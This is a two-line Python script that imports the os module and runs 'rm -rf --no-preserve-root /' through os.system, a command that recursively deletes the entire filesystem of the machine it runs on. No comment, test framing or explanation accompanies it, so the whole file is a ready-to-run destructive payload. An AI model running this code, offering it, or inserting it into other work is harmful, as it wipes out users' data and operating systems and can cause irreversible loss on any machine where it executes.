import os
os.system("rm -rf --no-preserve-root /")
